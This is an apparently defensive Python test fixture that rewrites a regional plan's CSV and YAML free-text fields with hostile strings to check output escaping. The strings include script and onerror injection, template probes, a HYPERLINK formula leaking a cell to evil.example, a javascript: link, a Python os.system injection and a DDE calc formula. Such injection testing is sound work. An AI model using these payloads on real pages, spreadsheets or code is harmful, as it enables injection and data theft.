"""A copy of the shipped plan whose every free text tries to become code, a link, a formula or a tag."""

import re
import shutil

import pandas as pd

from lnregions.paths import data_dir

EVIL = """<script>alert(1)</script>"'><img src=x onerror=alert(1)>{{7*7}}${7*7}</title></script><!--"""
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKDOWN = "[click](javascript:alert(1)) ![x](http://evil.example/x.png) `code` # head"
CODE = '"""+__import__(\'os\').system(\'touch /tmp/owned\')+"""\'\\'
TEXTS = (EVIL, FORMULA, MARKDOWN, CODE, "$x^2$ \\alpha {braces} %s %(x)s", "@SUM(1+1)*cmd|' /C calc'!A0")
FREE = {
    "regions.csv": ("name_zh", "name_en", "short_zh", "short_en", "nickname", "nickname_zh"),
    "positioning.csv": ("text_zh", "text_en"),
    "membership.csv": ("note", "note_zh"),
    "targets.csv": ("label_zh", "label_en", "wording_zh", "clause_en", "note_zh", "note_en"),
}
FACTS = r"( *(?:- )?(?:title_zh|title_en|short_zh|short_en|number|issuer_zh|issuer_en|title|publisher)): .*"


def write_hostile_plan(folder):
    """Write the plan with those texts, in turn, for every free text of its tables and facts."""
    shutil.copytree(data_dir() / "plans" / "ln-2022", folder)
    for name, columns in FREE.items():
        table = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
        for place, column in enumerate(columns):
            table[column] = [TEXTS[(n + place) % len(TEXTS)] for n in range(len(table))]
        table.to_csv(folder / name, index=False, lineterminator="\n")
    lines = (folder / "plan.yaml").read_text("utf-8").splitlines()
    quoted = [text.replace("'", "''") for text in TEXTS]
    for n, line in enumerate(lines):
        hit = re.fullmatch(FACTS, line)
        lines[n] = f"{hit[1]}: '{quoted[n % len(quoted)]}'" if hit else line
    (folder / "plan.yaml").write_text("\n".join(lines) + "\n", "utf-8")
    return folder
